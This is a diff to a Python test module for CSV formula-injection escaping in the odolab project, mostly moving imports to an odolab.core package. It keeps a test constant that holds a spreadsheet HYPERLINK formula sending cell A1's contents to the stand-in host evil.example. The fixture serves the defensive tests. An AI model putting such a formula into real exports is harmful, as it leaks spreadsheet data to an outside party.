@@ -2,7 +2,7 @@
 
 A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
 to a spreadsheet (``=HYPERLINK("http://...","click")`` in an exclusion reason was exported raw
-by ``trials export`` and ``/data/export``). odolab.text.inert_csv_cell puts a ``'`` before it
+by ``trials export`` and ``/data/export``). odolab.core.text.inert_csv_cell puts a ``'`` before it
 (and before a cell that already starts with ``'``); the readers take it off.
 """
 
@@ -20,9 +20,9 @@ from hypothesis import strategies as st
 from tests.store.conftest import make_trials
 
 from odolab.cli import main
+from odolab.core.text import CSV_FORMULA_STARTS, inert_csv_cell, read_csv_cell
+from odolab.core.trials import TrialStatus
 from odolab.store import Notebook, read_trials_csv, write_trials_csv
-from odolab.text import CSV_FORMULA_STARTS, inert_csv_cell, read_csv_cell
-from odolab.trials import TrialStatus
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 #: Text a spreadsheet would run, and text that merely looks like the escape.
